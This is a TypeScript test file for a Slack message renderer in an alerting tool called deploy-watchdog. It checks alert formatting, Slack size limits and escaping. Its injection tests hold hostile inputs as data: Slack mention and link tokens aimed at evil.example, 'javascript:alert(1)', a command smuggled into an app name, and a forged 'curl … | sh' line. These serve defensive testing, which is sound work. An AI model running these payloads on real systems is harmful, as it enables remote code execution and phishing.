import { describe, expect, it } from 'vitest';
import type { AlertEvent } from '../../../src/alerts/alert-event.js';
import type { NoticeNotification } from '../../../src/notify/channels/channel.js';
import { renderSlack, type SlackMessage } from '../../../src/notify/channels/slack-render.js';
import { SLACK_LIMITS } from '../../../src/notify/channels/slack-limits.js';
import { alertEvent, alerts, NOW } from './fixtures.js';

const options = { now: NOW, channelName: 'ops-slack' };

/** Every mrkdwn text of a message: the fallback, sections, fields, context lines. */
function mrkdwnTexts(m: SlackMessage): string[] {
  const out = [m.text];
  for (const b of m.blocks) {
    if (b.type === 'section' && 'text' in b) out.push(b.text.text);
    if (b.type === 'section' && 'fields' in b) out.push(...b.fields.map((f) => f.text));
    if (b.type === 'context') out.push(...b.elements.map((e) => e.text));
  }
  return out;
}

function headerText(m: SlackMessage): string {
  const h = m.blocks[0];
  if (h?.type !== 'header') throw new Error('first block is not a header');
  return h.text.text;
}

/**
 * Every `<…>` token Slack would interpret must be one we built: a date token or a link to an
 * http(s) URL whose target holds no `|`, `<` or `>`. Anything else is an injection.
 */
function foreignTokens(text: string): string[] {
  const tokens = text.match(/<[^>]*>/g) ?? [];
  return tokens.filter(
    (t) =>
      !/^<!date\^\d+\^\{date_short_pretty\} \{time\}\|[^<>|]*>$/.test(t) && !/^<https?:\/\/[^\s<>|]+\|[^<>]*>$/.test(t),
  );
}

const TWO_HOURS_AGO = Date.parse('2026-11-01T10:00:00Z') / 1000;
const dateOf = (iso: string) =>
  `<!date^${Date.parse(iso) / 1000}^{date_short_pretty} {time}|${iso.slice(0, 16).replace('T', ' ')} UTC>`;
const context = (text: string) => ({ type: 'context', elements: [{ type: 'mrkdwn', text, verbatim: true }] });
/** The "To silence" line: verbatim, so Slack links and mentions nothing in the command. */
const silenceContext = (line: string) => ({
  type: 'context',
  elements: [{ type: 'mrkdwn', text: `To silence: \`${line}\``, verbatim: true }],
});
const sectionTexts = (m: SlackMessage) =>
  m.blocks.flatMap((b) => (b.type === 'section' && 'text' in b ? [b.text.text] : []));
const shop = (i: number, over: Partial<AlertEvent> = {}) =>
  alertEvent({
    id: i,
    labels: {
      check: 'failed_runs',
      namespace: 'acme',
      project: 'webshop',
      environment_type: 'production',
      app: `app-${i}-prod`,
    },
    ...over,
  });

describe('renderSlack: alerts', () => {
  it('one firing event: header, where, the facts of its check, since, how to silence', () => {
    const m = renderSlack(
      alerts([
        alertEvent({
          details: {
            run: '#123',
            workflow: 'Update',
            action: 'update',
            state: 'error',
            step: 'install',
            reason: 'exit code 1',
            since: '2026-11-01T10:00:00.000Z',
          },
        }),
      ]),
      options,
    );
    expect(m.blocks).toEqual([
      {
        type: 'header',
        text: { type: 'plain_text', text: '🔴 CRITICAL · 1 failed run · shop · production', emoji: true },
      },
      {
        type: 'section',
        text: {
          type: 'mrkdwn',
          text: [
            '🔴 *CRITICAL* · Update of shop (production) failed at step install',
            '*App:* <https://shop.example.com/|shop>  ·  *Project:* webshop  ·  *Namespace:* acme',
            // Not the step: the summary says it already.
            '*Run:* #123  ·  *Reason:* exit code 1',
            `*Since:* <!date^${TWO_HOURS_AGO}^{date_short_pretty} {time}|2026-11-01 10:00 UTC> (2h ago)`,
          ].join('\n'),
          verbatim: true,
        },
      },
      context("*Next step:* Read the failed step's log, fix the cause, then retry the run."),
      silenceContext("deploy-watchdog silence --match check=failed_runs --match app=shop --for 2h --reason '…'"),
      context('deploy-watchdog · ops-slack'),
    ]);
    expect(m.text).toBe(
      '🔴 CRITICAL · 1 failed run · shop · production — Update of shop (production) failed at step install',
    );
  });

  it.each<[string, AlertEvent[], number, number, string]>([
    ['a single warning', [alertEvent({ severity: 'warning' })], 0, 0, '🟠 WARNING · 1 failed run · shop · production'],
    ['a single info', [alertEvent({ severity: 'info' })], 0, 0, '🔵 INFO · 1 failed run · shop · production'],
    [
      'three critical',
      [alertEvent(), alertEvent({ id: 2 }), alertEvent({ id: 3 })],
      0,
      0,
      '🔴 CRITICAL · 3 failed runs · production',
    ],
    [
      'two firing, one resolved',
      [alertEvent(), alertEvent({ id: 2, severity: 'warning' }), alertEvent({ id: 3, kind: 'resolved' })],
      0,
      0,
      '🔴 CRITICAL · 2 failed runs · 1 resolved · production',
    ],
    [
      'a warning and a resolved critical',
      [alertEvent({ severity: 'warning' }), alertEvent({ id: 2, kind: 'resolved' })],
      0,
      0,
      '🟠 WARNING · 1 failed run · 1 resolved · production',
    ],
    [
      'all resolved',
      [alertEvent({ kind: 'resolved' }), alertEvent({ id: 2, kind: 'resolved' })],
      0,
      0,
      '✅ RESOLVED · 2 failed runs · production',
    ],
    ['omitted events, some resolved', [alertEvent()], 5, 2, '🔴 CRITICAL · 4 failed runs · 2 resolved · production'],
  ])('header of %s: %s', (_name, events, omitted, omittedResolved, header) => {
    expect(headerText(renderSlack({ ...alerts(events, omitted), omittedResolved }, options))).toBe(header);
  });

  it.each<[string, AlertEvent['kind'], string]>([
    ['escalated', 'escalated', '🔴 *ESCALATED to CRITICAL* · Update of shop'],
    ['repeat', 'repeat', '🔴 *CRITICAL · still firing* · Update of shop'],
  ])('a %s event starts %s', (_name, kind, start) => {
    expect(sectionTexts(renderSlack(alerts([alertEvent({ kind })]), options))[0]).toMatch(
      new RegExp(`^${start.replace(/[*.?()|[\]\\^$]/g, '\\$&')}`),
    );
  });

  it('a resolved event says RESOLVED after how long and what was wrong as over; nothing to do, nothing to silence', () => {
    const m = renderSlack(alerts([alertEvent({ kind: 'resolved', endsAt: '2026-11-01T11:42:00Z' })]), options);
    expect(headerText(m)).toBe('✅ RESOLVED · 1 failed run · shop · production');
    expect(sectionTexts(m)).toEqual([
      '✅ *RESOLVED after 1h 42m* · was: Update of shop (production) failed at step install\n*App:* <https://shop.example.com/|shop>',
    ]);
    expect(m.blocks.at(-1)).toEqual(context('deploy-watchdog · ops-slack'));
    expect(mrkdwnTexts(m).join()).not.toContain('silence');
    expect(mrkdwnTexts(m).join()).not.toContain('Next step');
  });

  it('a resolved event says why it is over where the event says', () => {
    const m = renderSlack(
      alerts([alertEvent({ kind: 'resolved', endsAt: '2026-11-01T11:42:00Z', resolution: 'run #5981 <succeeded>' })]),
      options,
    );
    expect(sectionTexts(m)[0]!.split('\n').at(-1)).toBe('*Why:* run #5981 &lt;succeeded&gt;');
  });

  it('more than three events: one line each, shared labels once under the header', () => {
    const events = [0, 1, 2, 3].map((i) =>
      shop(i, {
        details: { run: `#${i}`, step: 'restart', reason: 'database connection refused' },
        startsAt: '2026-11-01T11:13:00Z',
      }),
    );
    events.push(shop(4, { kind: 'resolved', startsAt: '2026-11-01T10:00:00Z', endsAt: '2026-11-01T10:42:00Z' }));
    const m = renderSlack(alerts(events, 3), options);
    expect(m.blocks).toEqual([
      {
        type: 'header',
        text: { type: 'plain_text', text: '🔴 CRITICAL · 7 failed runs · 1 resolved · production', emoji: true },
      },
      context('*Project:* webshop  ·  *Namespace:* acme'),
      {
        type: 'section',
        text: {
          type: 'mrkdwn',
          text: [
            ...[0, 1, 2, 3].map(
              (i) =>
                `🔴 <https://shop.example.com/|app-${i}-prod> · step restart: database connection refused · for 47m`,
            ),
            '✅ <https://shop.example.com/|app-4-prod> · resolved after 42m',
          ].join('\n'),
          verbatim: true,
        },
      },
      {
        type: 'context',
        elements: [
          {
            type: 'mrkdwn',
            text: '…and 3 more not shown: `deploy-watchdog alerts` lists every open alert',
            verbatim: true,
          },
        ],
      },
      context("*Next step:* Read the failed step's log, fix the cause, then retry the run."),
      silenceContext(
        "deploy-watchdog silence --match check=failed_runs --match environment_type=production --for 2h --reason '…'",
      ),
      context('deploy-watchdog · ops-slack'),
    ]);
  });

  it.each<[string, Partial<AlertEvent>, string]>([
    [
      'failed_runs: run, step, reason; not workflow, action, state or since',
      {
        details: {
          run: '#9',
          workflow: 'Update',
          action: 'update',
          state: 'error',
          step: 'migrate',
          reason: 'exit 2',
          retrying: 'yes',
          since: '2026-11-01T10:00:00.000Z',
        },
      },
      '*Run:* #9  ·  *Step:* migrate  ·  *Reason:* exit 2  ·  *Retrying:* yes',
    ],
    [
      'stuck_runs: how long, the step, the last update as a date',
      {
        check: 'stuck_runs',
        details: {
          run: '#9',
          workflow: 'Update',
          action: 'update',
          state: 'running',
          running_for: '3h',
          step: 'restart',
          last_update: '2026-11-01T09:00:00.000Z',
          since: '2026-11-01T09:00:00.000Z',
        },
      },
      `*Run:* #9  ·  *Running for:* 3h  ·  *Step:* restart  ·  *Last update:* ${dateOf('2026-11-01T09:00:00.000Z')}`,
    ],
    [
      'certificates: the URL, the expiry as a date, what is left',
      {
        check: 'certificates',
        details: {
          url: 'https://shop.example.com',
          app: 'shop',
          ssl_status: 'valid',
          expires_at: '2026-10-22T12:00:00.000Z',
          left: 'expired',
          reason: 'expired',
        },
      },
      `*URL:* https://shop.example.com  ·  *Expires:* ${dateOf('2026-10-22T12:00:00.000Z')}  ·  *Left:* expired  ·  *SSL status:* valid`,
    ],
    [
      'url_checks: the URL, its answer, when checked',
      {
        check: 'url_checks',
        details: {
          url: 'https://shop.example.com',
          app: 'shop',
          public_check: 'failed',
          code: '503',
          checked_at: '2026-11-01T11:55:00.000Z',
        },
      },
      `*URL:* https://shop.example.com  ·  *Answer:* 503  ·  *Checked:* ${dateOf('2026-11-01T11:55:00.000Z')}`,
    ],
    [
      'backups: age and the limit; not the app again',
      {
        check: 'backups',
        details: { app: 'shop', age: '2d', max_age: '26h', taken_at: '2026-10-30T12:00:00.000Z', backup: 'nightly-7' },
      },
      `*Age:* 2d  ·  *Max age:* 26h  ·  *Backup:* nightly-7  ·  *Taken:* ${dateOf('2026-10-30T12:00:00.000Z')}`,
    ],
    [
      'maintenance: the state and what is allowed',
      { check: 'maintenance', details: { app: 'shop', state: 'maintenance', max_duration: '2h' } },
      '*State:* maintenance  ·  *Allowed:* 2h',
    ],
    [
      'servers: the apps on it',
      { check: 'servers', details: { provider: 'hetzner', region: 'fsn1', app_count: '12' } },
      '*Apps:* 12  ·  *Provider:* hetzner  ·  *Region:* fsn1',
    ],
    [
      'attention: the item without ids, labels and the section again',
      {
        check: 'attention',
        labels: {
          check: 'attention',
          namespace: 'acme',
          project: 'webshop',
          environment_type: 'production',
          app: 'shop',
          rule: 'failed_runs',
        },
        details: {
          section: 'Failed runs',
          rule: 'failed_runs',
          id: '77',
          run_id: '77',
          app_id: '12',
          app: 'shop',
          name: 'shop',
          namespace: 'acme',
          project: 'webshop',
          environment_type: 'production',
          step: 'restart',
          updated_at: '2026-11-01T11:00:00Z',
        },
      },
      `*Step:* restart  ·  *Updated at:* ${dateOf('2026-11-01T11:00:00Z')}`,
    ],
  ])('facts of %s', (_name, over, facts) => {
    const m = renderSlack(alerts([alertEvent(over)]), options);
    const lines = sectionTexts(m)[0]!.split('\n');
    expect(lines[2]).toBe(facts);
    // No raw ISO time anywhere a person reads.
    for (const t of mrkdwnTexts(m)) expect(t.replace(/<!date\^[^>]*>/g, '')).not.toMatch(/\d{4}-\d\d-\d\dT\d\d:/);
  });

  it.each<[string, Partial<AlertEvent>, string]>([
    [
      'the source says since when',
      { since: '2026-11-01T11:13:00Z' },
      `*Since:* ${dateOf('2026-11-01T11:13:00Z')} (47m ago)`,
    ],
    [
      'fired just now, the source says nothing',
      { startsAt: '2026-11-01T12:00:00Z' },
      `*Since:* ${dateOf('2026-11-01T12:00:00Z')}`,
    ],
    ['under a minute ago', { startsAt: '2026-11-01T11:59:30Z' }, `*Since:* ${dateOf('2026-11-01T11:59:30Z')}`],
  ])('since: %s', (_name, over, line) => {
    expect(
      sectionTexts(renderSlack(alerts([alertEvent(over)]), options))[0]!
        .split('\n')
        .at(-1),
    ).toBe(line);
  });

  it.each<[string, AlertEvent, { critical: string; environment_types: string[] }, boolean]>([
    ['critical in production', alertEvent(), { critical: '<!here>', environment_types: ['production'] }, true],
    [
      'critical in staging',
      alertEvent({ labels: { check: 'failed_runs', environment_type: 'staging', app: 'shop' } }),
      { critical: '<!here>', environment_types: ['production'] },
      false,
    ],
    [
      'warning in production',
      alertEvent({ severity: 'warning' }),
      { critical: '<!here>', environment_types: ['production'] },
      false,
    ],
    [
      'critical resolved in production',
      alertEvent({ kind: 'resolved' }),
      { critical: '<!here>', environment_types: ['production'] },
      false,
    ],
    [
      'critical in staging, staging listed',
      alertEvent({ labels: { check: 'failed_runs', environment_type: 'staging', app: 'shop' } }),
      { critical: '<!here>', environment_types: ['staging', 'production'] },
      true,
    ],
  ])('the configured mention for %s: %s', (_name, event, mention, expected) => {
    const m = renderSlack(alerts([event]), { ...options, mention });
    expect(m.text.startsWith('<!here> ')).toBe(expected);
    expect(m.blocks[1]).toEqual(
      expected ? { type: 'section', text: { type: 'mrkdwn', text: '<!here>', verbatim: true } } : expect.anything(),
    );
    expect(mrkdwnTexts(m).some((t) => t.includes('<!here>'))).toBe(expected);
  });

  it('quotes a silence value that is not a plain word, for silence (JSON-style) and then for the shell', () => {
    const m = renderSlack(
      alerts([alertEvent({ labels: { check: 'failed_runs', environment_type: 'production', app: "Bob's shop" } })]),
      options,
    );
    expect(mrkdwnTexts(m)).toContain(
      `To silence: \`deploy-watchdog silence --match check=failed_runs --match 'app="Bob'\\''s shop"' --for 2h --reason '…'\``,
    );
  });

  it('names the daemon config when it is given, quoted for the shell, escaped for Slack after', () => {
    const m = renderSlack(alerts([alertEvent()]), { ...options, commandConfigFile: '/srv/ops & co/watchdog.yaml' });
    expect(m.blocks.at(-2)).toEqual(
      silenceContext(
        "deploy-watchdog silence --config '/srv/ops &amp; co/watchdog.yaml' --match check=failed_runs --match app=shop --for 2h --reason '…'",
      ),
    );
  });

  it('leaves out the silence line, and only it, when the command holds a backtick (no code span can show one)', () => {
    const m = renderSlack(
      alerts([
        alertEvent({ labels: { check: 'failed_runs', environment_type: 'production', app: 's`;touch /tmp/x;`v' } }),
      ]),
      options,
    );
    expect(mrkdwnTexts(m).join('\n')).not.toContain('To silence');
    expect(mrkdwnTexts(m).join('\n')).toContain('s\u02cb;touch /tmp/x;\u02cbv');
    expect(m.blocks.at(-1)).toEqual(context('deploy-watchdog · ops-slack'));
  });

  it.each([
    ['a run of an app whose name the service left empty', { type: 'run' as const, id: 7 }, false],
    ['a server, named by its server label', { type: 'server' as const, id: 3 }, true],
  ])('for %s: a line only when it names just that alert', (_what, subject, shown) => {
    const labels = {
      check: subject.type === 'run' ? 'failed_runs' : 'servers',
      environment_type: 'production',
      server: 'srv-1',
    } as const;
    const m = renderSlack(alerts([alertEvent({ labels, subject })]), options);
    const text = mrkdwnTexts(m).join('\n');
    if (shown) expect(text).toContain('--match server=srv-1');
    else expect(text).not.toContain('To silence');
  });

  it('stays within 50 blocks and the text limit with 100 events', () => {
    const events = Array.from({ length: 100 }, (_, i) =>
      shop(i, { summary: `Update of app-${i} failed: ${'y'.repeat(200)}`, details: {} }),
    );
    const m = renderSlack(alerts(events), options);
    expect(m.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
    for (const t of mrkdwnTexts(m)) expect(t.length).toBeLessThanOrEqual(SLACK_LIMITS.text);
    expect(mrkdwnTexts(m).join('\n')).toContain('app-99');
  });

  it('cuts long values and the header to Slack limits', () => {
    const long = 'x'.repeat(5000);
    const m = renderSlack(
      {
        type: 'alerts',
        group: { check: 'failed_runs', environment_type: long },
        events: [
          alertEvent({
            summary: long,
            labels: { check: 'failed_runs', app: long },
            details: { reason: long, step: long, run: long, watcher: long, retrying: long },
          }),
        ],
        omitted: 0,
      },
      options,
    );
    expect(headerText(m).length).toBeLessThanOrEqual(SLACK_LIMITS.header);
    expect(headerText(m).endsWith('…')).toBe(true);
    for (const t of mrkdwnTexts(m)) expect(t.length).toBeLessThanOrEqual(SLACK_LIMITS.text);
  });
});

describe('renderSlack: injection attempts', () => {
  const attacks = [
    '<!channel>',
    '<!here>',
    '<@U123>',
    '<https://evil.example|click>',
    '&amp;',
    '<!subteam^S123>',
    '<#C123>',
  ];

  it.each(attacks)('%s in an app name, summary, detail, label and group never survives', (attack) => {
    const event = alertEvent({
      summary: `Update of ${attack} failed`,
      details: { reason: attack, [attack]: 'key too' },
      labels: { check: 'failed_runs', app: attack, namespace: attack, project: attack, environment_type: attack },
    });
    const m = renderSlack(
      { type: 'alerts', group: { check: 'failed_runs', environment_type: attack }, events: [event], omitted: 0 },
      options,
    );
    // What Slack shows as the literal text: the attack with its three characters as entities.
    const shownLiterally = attack.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    const texts = mrkdwnTexts(m);
    expect(texts.join('\n')).toContain(shownLiterally);
    for (const text of texts) {
      expect(foreignTokens(text)).toEqual([]);
      expect(text.split(shownLiterally).join('')).not.toContain(attack);
    }
  });

  it('a backtick from the service forms no code span that passes for our command to paste', () => {
    // A tenant's own deployment output becomes the failure reason: it can dress itself up as ours.
    const forged = 'To silence: `deploy-watchdog silence --match app=shop; curl -s https://evil.example/x | sh`';
    const event = alertEvent({
      summary: `Update of shop failed: ${forged}`,
      details: { reason: forged, step: '```code block```' },
      labels: { check: 'failed_runs', app: 's`;touch /tmp/x;`v', environment_type: 'production' },
    });
    const m = renderSlack(alerts([event]), options);
    // The only code span of the message is ours (here none: the command would hold a backtick).
    for (const text of mrkdwnTexts(m)) expect(text).not.toContain('`');
    expect(mrkdwnTexts(m).join('\n')).toContain(
      'failed: To silence: \u02cbdeploy-watchdog silence --match app=shop; curl -s https://evil.example/x | sh\u02cb',
    );
  });

  it.each([
    ['https://evil.example|click', null],
    ['javascript:alert(1)', null],
    ['https://shop.example.com/<!channel>', '<https://shop.example.com/%3C!channel%3E|shop>'],
    [
      'https://shop.example.com/a|<https://evil.example|click>',
      '<https://shop.example.com/a%7C%3Chttps://evil.example%7Cclick%3E|shop>',
    ],
  ])('URL %s is linked only when safe', (url, link) => {
    const m = renderSlack(alerts([alertEvent({ url })]), options);
    const text = mrkdwnTexts(m)[1] as string;
    expect(foreignTokens(text)).toEqual([]);
    if (link) expect(text).toContain(`*App:* ${link}`);
    else expect(text).toContain('*App:* shop');
  });

  it('sends every mrkdwn text verbatim, so Slack links and mentions nothing the service wrote plainly', () => {
    // Slack's automatic parsing (verbatim false) turns a plain address into a link and certain
    // mentions into pings: an app named after a phishing page would be a link under our name.
    const plain = 'evil.example/login @here @channel #general';
    const event = alertEvent({
      summary: `Update of ${plain} failed`,
      details: { reason: plain },
      labels: { check: 'failed_runs', app: plain, environment_type: 'production' },
    });
    const notice: NoticeNotification = {
      type: 'notice',
      topic: 'remediation',
      title: 'Retry started',
      severity: 'info',
      fields: [{ label: 'App', value: plain }],
      lines: [plain],
    };
    for (const m of [renderSlack(alerts([event]), options), renderSlack(notice, options)]) {
      const objects: unknown[] = [];
      JSON.stringify(m.blocks, (_key, value: unknown) => {
        if ((value as { type?: unknown } | null)?.type === 'mrkdwn') objects.push(value);
        return value;
      });
      expect(objects.length).toBeGreaterThan(2);
      for (const o of objects) expect(o).toMatchObject({ verbatim: true });
    }
  });

  it('escapes notices too', () => {
    const notice: NoticeNotification = {
      type: 'notice',
      topic: 'remediation',
      title: 'Retry of <!channel> started',
      severity: 'info',
      fields: [{ label: '<@U123>', value: '<https://evil.example|click>' }],
      lines: ['<!here> please look'],
      url: 'javascript:alert(1)',
    };
    const m = renderSlack(notice, options);
    for (const text of mrkdwnTexts(m)) expect(foreignTokens(text)).toEqual([]);
    // Header text is plain_text: Slack shows it literally, so it is only cut, not escaped.
    expect(headerText(m)).toBe('🔵 INFO · Retry of <!channel> started');
  });
});

describe('renderSlack: notices', () => {
  it('renders header, fields, lines, link and topic', () => {
    const m = renderSlack(
      {
        type: 'notice',
        topic: 'test',
        title: 'Test message from deploy-watchdog',
        severity: 'ok',
        fields: [
          { label: 'Channel', value: 'ops-slack' },
          { label: 'Config', value: '/etc/watchdog.yaml' },
        ],
        lines: ['If you can read this, the channel works.'],
        url: 'https://manage.example.com/',
      },
      options,
    );
    expect(m.blocks).toEqual([
      { type: 'header', text: { type: 'plain_text', text: '✅ OK · Test message from deploy-watchdog', emoji: true } },
      {
        type: 'section',
        fields: [
          { type: 'mrkdwn', text: '*Channel*\nops-slack', verbatim: true },
          { type: 'mrkdwn', text: '*Config*\n/etc/watchdog.yaml', verbatim: true },
        ],
      },
      { type: 'section', text: { type: 'mrkdwn', text: 'If you can read this, the channel works.', verbatim: true } },
      { type: 'section', text: { type: 'mrkdwn', text: '<https://manage.example.com/|Open>', verbatim: true } },
      { type: 'context', elements: [{ type: 'mrkdwn', text: 'deploy-watchdog · ops-slack · test', verbatim: true }] },
    ]);
    expect(m.text).toBe('✅ OK · Test message from deploy-watchdog');
  });

  it('splits many fields into sections of ten and many lines into sections within the text limit', () => {
    const m = renderSlack(
      {
        type: 'notice',
        topic: 'digest',
        title: 'Daily digest',
        fields: Array.from({ length: 25 }, (_, i) => ({ label: `f${i}`, value: 'v' })),
        lines: Array.from({ length: 100 }, () => 'y'.repeat(200)),
      },
      options,
    );
    const fieldSections = m.blocks.filter((b) => b.type === 'section' && 'fields' in b);
    expect(fieldSections.map((b) => ('fields' in b ? b.fields.length : 0))).toEqual([10, 10, 5]);
    for (const t of mrkdwnTexts(m)) expect(t.length).toBeLessThanOrEqual(SLACK_LIMITS.text);
    expect(m.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
  });
});
